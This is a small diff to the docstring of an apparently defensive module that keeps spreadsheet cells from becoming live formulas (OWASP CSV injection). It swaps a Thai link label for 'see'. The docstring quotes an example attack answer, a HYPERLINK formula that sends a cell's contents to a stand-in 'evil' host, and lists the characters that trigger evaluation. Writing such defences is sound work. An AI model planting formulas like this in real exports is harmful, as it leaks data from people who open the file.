@@ -1,6 +1,6 @@
 """Spreadsheet cells that stay text: no answer becomes a live formula (OWASP CSV injection).
 
-Anyone enrolled can type `=HYPERLINK("https://evil/?q="&C2,"ดูหลักฐาน")` as an answer. In a
+Anyone enrolled can type `=HYPERLINK("https://evil/?q="&C2,"see")` as an answer. In a
 CSV, Excel and LibreOffice evaluate a cell that starts with `=`, `+`, `-` or `@` (and tab or
 carriage return, which they skip first), so such a cell gets a leading apostrophe, OWASP's
 advice. In an XLSX, openpyxl turns a string starting with `=` into a formula; the cell is
